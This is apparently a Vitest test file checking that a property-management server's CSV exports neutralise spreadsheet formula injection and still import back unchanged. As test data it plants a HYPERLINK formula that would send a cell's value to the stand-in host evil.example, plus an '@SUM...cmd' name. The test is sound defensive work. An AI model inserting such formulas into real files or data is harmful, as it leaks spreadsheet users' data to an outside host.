import { beforeAll, describe, expect, it } from "vitest";
import { createApp, type App } from "@tingjian/server";
import { useTestDatabase } from "@tingjian/prisma/testing";
import { gql, postFile, signIn, type Caller } from "../api/graphql.ts";
import { demoClock } from "../demo-clock.ts";

/**
 * Issue 15 item 15: a text cell that starts with =, +, -, @ (or a tab or carriage return) runs
 * as a formula when a CSV is opened in a spreadsheet. Every CSV the server writes neutralises it
 * with a leading apostrophe, masked values included; the importer reads the file back unchanged.
 */
const EXPORT = `query($input: ExportFileInput!) { exportFile(input: $input) { contentBase64 } }`;
const IMPORT = `mutation($input: ImportFileInput!) { importFile(input: $input) {
  __typename ... on Error { message } ... on MutationImportFileSuccess { data { totalRows created updated unchanged } } } }`;
const HYPERLINK = '=HYPERLINK("http://evil.example/?"&A2,"点此查看")';

describe("CSV exports neutralise formulas (issue 15 item 15)", () => {
  const t = useTestDatabase("demo");
  let app: App;
  let exec: Caller;
  const q = (sql: string, params: unknown[] = []) => t.db.pool.query(sql, params).then((r) => r.rows);

  beforeAll(async () => {
    app = createApp({ prisma: t.prisma, clock: demoClock() });
    exec = await signIn(app, "exec");
    await q(`UPDATE estates SET name = $1 WHERE code = 'KC'`, [HYPERLINK]);
    await q(`UPDATE customers SET name = '@SUM(1+1)*cmd' WHERE id = (SELECT m.customer_id FROM household_members m JOIN households h ON h.id = m.household_id
      JOIN estates e ON e.id = h.estate_id WHERE e.code = 'LX' AND m.is_primary ORDER BY h.code LIMIT 1)`);
  });

  async function exported(input: Record<string, unknown>): Promise<string> {
    const r = await gql<{ exportFile: { contentBase64: string } }>(
      app,
      EXPORT,
      { input: { purpose: "公式注入测试", format: "CSV", ...input } },
      exec,
    );
    expect(r.errors, JSON.stringify(r.errors)).toBeUndefined();
    return Buffer.from(r.data!.exportFile.contentBase64, "base64").toString("utf8");
  }

  it("the interchange export writes a formula-leading cell as text, and the file imports back unchanged", async () => {
    const csv = await exported({ kind: "ESTATES" });
    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?""&A2,""点此查看"")"`);
    // No cell of the file starts with a formula character.
    const cells = csv
      .replace(/^\uFEFF/, "")
      .split(/\r\n/)
      .flatMap((line) => line.split(","));
    expect(cells.filter((c) => /^"?[=+\-@\t\r]/.test(c))).toEqual([]);

    const body = await postFile<{
      importFile: { __typename: string; data?: { totalRows: number; created: number; updated: number; unchanged: number } };
    }>(app, exec, IMPORT, { kind: "ESTATES", dryRun: true }, csv, "estates.csv");
    expect(body.data?.importFile.__typename, JSON.stringify(body)).toBe("MutationImportFileSuccess");
    const d = body.data!.importFile.data!;
    expect(d).toMatchObject({ created: 0, updated: 0 });
    expect(d.unchanged).toBe(d.totalRows);
  });

  it("the customer export guards names too, masked or not", async () => {
    const [{ id }] = await q(`SELECT id FROM estates WHERE code = 'LX'`);
    const r = await gql<{ exportCustomers: { content: string } }>(
      app,
      `query($e: ID!) { exportCustomers(estateId: $e, purpose: "公式注入测试") { content } }`,
      { e: Buffer.from(`Estate:${id}`).toString("base64") },
      exec,
    );
    expect(r.errors, JSON.stringify(r.errors)).toBeUndefined();
    const lines = r.data!.exportCustomers.content.split("\n");
    expect(lines.some((l) => l.includes("'@"))).toBe(true);
    expect(lines.flatMap((l) => l.split(",")).filter((c) => /^"?[=+\-@]/.test(c))).toEqual([]);
  });
});
